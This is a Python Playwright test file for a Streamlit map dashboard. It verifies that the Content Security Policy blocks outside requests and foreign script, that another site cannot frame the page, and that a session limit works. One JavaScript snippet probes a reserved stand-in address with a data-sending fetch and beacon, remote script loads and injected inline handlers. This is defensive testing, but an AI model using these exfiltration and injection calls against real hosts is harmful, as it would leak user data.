"""The browser itself keeps a page of ours from asking another machine, from running foreign script, and from being framed."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from data.demo.files import SETTINGS_TOML
from data.settings import load_settings
from data.snapshots import SnapshotStore
from ingest.demonstration import ensure_demonstration
from ingest.places import SETTINGS_VARIABLE, STORE_VARIABLE, snapshot_folder
from tests.browser.map_on_page import MapOnPage
from tests.browser.serving import PROJECT

pytestmark = pytest.mark.browser

TRIED_AND_NOT_NEEDED = "script-src wasm-eval"
"""Streamlit's protobuf (long.js) multiplies large numbers by WebAssembly where it may, and by itself where not."""
OUTSIDE = "http://192.0.2.7"
"""An address that no machine has (RFC 5737)."""
WATCH = """window.violations = [];
document.addEventListener("securitypolicyviolation", e => window.violations.push(e.effectiveDirective + " " + e.blockedURI));"""

_TRY = """async ([what, outside]) => {
    const add = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
    const ways = {
        picture: () => add("img", {src: outside + "/a.png"}),
        script: () => add("script", {src: outside + "/a.js"}),
        "script in the page": () => add("script", {textContent: "window.hurt = 1"}),
        "script of an attribute": () => { add("b", {innerHTML: "<i onclick='window.hurt = 1'></i>"});
                                          document.querySelector("b > i[onclick]").click(); },
        text: () => setTimeout("window.hurt = 1"),
        module: () => import(outside + "/a.js"),
        request: () => fetch(outside + "/?ward=E05000001"),
        beacon: () => navigator.sendBeacon(outside + "/", "E05000001"),
        websocket: () => new WebSocket(outside.replace("http", "ws")),
        events: () => new EventSource(outside),
        worker: () => new Worker("data:text/javascript,0"),
        style: () => add("link", {rel: "stylesheet", href: outside + "/a.css"}),
        font: () => new FontFace("far", `url(${outside}/a.woff2)`).load(),
        sound: () => add("audio", {src: outside + "/a.mp3"}),
        frame: () => add("iframe", {src: outside}),
        plugin: () => add("object", {data: outside + "/a.pdf"}),
        base: () => document.head.append(Object.assign(document.createElement("base"), {href: outside})),
        form: () => { add("form", {action: outside, method: "post"}); [...document.forms].at(-1).submit(); },
    };
    const blocked = new Promise(done => document.addEventListener(
        "securitypolicyviolation", e => done(e.effectiveDirective), {once: true}));
    try { await ways[what](); } catch { /* refused at once */ }
    return Promise.race([blocked, new Promise(done => setTimeout(() => done("NOT BLOCKED"), 5000))]);
}"""

BLOCKED_BY = {
    "picture": "img-src",
    "script": "script-src-elem",
    "script in the page": "script-src-elem",
    "script of an attribute": "script-src-attr",
    "text": "script-src",
    "module": "script-src-elem",
    "request": "connect-src",
    "beacon": "connect-src",
    "websocket": "connect-src",
    "events": "connect-src",
    "worker": "worker-src",
    "style": "style-src-elem",
    "font": "font-src",
    "sound": "media-src",
    "frame": "frame-src",
    "plugin": "object-src",
    "base": "base-uri",
    "form": "form-action",
}
IN_THE_MAP = {
    way: by for way, by in BLOCKED_BY.items() if way not in ("script in the page", "script of an attribute", "text")
}
"""The map is drawn by the text of a script, so its frame runs such; but it may ask nobody."""


def tried(frame: Page | Frame) -> dict[str, str]:
    """Try every way out in a page or a frame; give what each was blocked by."""
    ways = BLOCKED_BY if isinstance(frame, Page) else IN_THE_MAP
    return {way: frame.evaluate(_TRY, [way, OUTSIDE]) for way in ways}


def test_every_way_out_of_a_page_is_blocked_by_the_browser(
    page: Page, demonstration: str, page_faults: list[str]
) -> None:
    page.goto(f"{demonstration}/explore")
    shown = MapOnPage(page)
    shown.wait()
    assert tried(shown.frame()) == IN_THE_MAP
    assert tried(page) == BLOCKED_BY
    assert page.evaluate("window.hurt") is None
    assert any("Content Security Policy" in fault for fault in page_faults), (
        "a violation would go unseen in the other tests"
    )
    page_faults.clear()


@pytest.mark.parametrize("page", [{"color_scheme": "light"}, {"color_scheme": "dark"}], indirect=True)
def test_no_screen_needs_what_is_forbidden(page: Page, demonstration: str) -> None:
    page.add_init_script(WATCH)
    for address in ("", "/explore?ward=X05000022&groups=wards", "/explore?groups=incidents&below=risks"):
        page.goto(demonstration + address)
        MapOnPage(page).wait()
        for chart in page.get_by_test_id(re.compile("^st(VegaLite|Plotly)Chart$")).all():
            chart.scroll_into_view_if_needed()
            expect(chart.locator("canvas, svg").first).to_be_visible()
            chart.hover()
        expect(page.get_by_test_id("stStatusWidget")).to_have_count(0)
        violations = {one for frame in page.frames for one in frame.evaluate("window.violations")}
        assert violations <= {TRIED_AND_NOT_NEEDED}


def test_a_page_of_another_site_cannot_frame_ours(browser: Browser, demonstration: str) -> None:
    elsewhere = browser.new_page()
    elsewhere.route(
        "http://127.0.0.1:1/",
        lambda route: route.fulfill(body=f"<iframe src='{demonstration}'>", content_type="text/html"),
    )
    elsewhere.goto("http://127.0.0.1:1/")
    framed = elsewhere.frames[1]
    framed.wait_for_load_state()
    assert framed.locator("#root").count() == 0
    elsewhere.close()


def test_whoever_comes_when_all_places_are_taken_is_told_so_and_gets_in_later(
    page: Page, browser: Browser, serve: Callable[..., str], tmp_path: Path, page_faults: list[str]
) -> None:
    address = serve(PROJECT / "dashboard.py", env=one_place(tmp_path))
    first = browser.new_page()
    held: list[Any] = []
    # This page is here already, and comes for its session only when the place is taken.
    page.route("**/_stcore/health", lambda route: held.append(route))
    page.goto(address)
    first.goto(address)
    MapOnPage(first).wait()
    for route in held:
        route.continue_()
    page.unroute("**/_stcore/health")
    expect(page.get_by_text("All places on this server are taken").first).to_be_visible()
    page.goto(address)
    expect(page.get_by_role("alert")).to_contain_text("All places on this server are taken")
    first.close()
    page.goto(address)
    MapOnPage(page).wait()
    page_faults.clear()  # Streamlit writes each refusal to the console


def one_place(folder: Path) -> dict[str, str]:
    """The demonstration area as a partnership of its own, whose server has one place."""
    settings = folder / "settings.toml"
    settings.write_text(SETTINGS_TOML + "\n[server]\nsessions = 1\n", encoding="utf-8")
    env = {STORE_VARIABLE: str(folder / "store"), SETTINGS_VARIABLE: str(settings)}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(STORE_VARIABLE, env[STORE_VARIABLE])
        ensure_demonstration(SnapshotStore(snapshot_folder(load_settings(settings))))
    return env
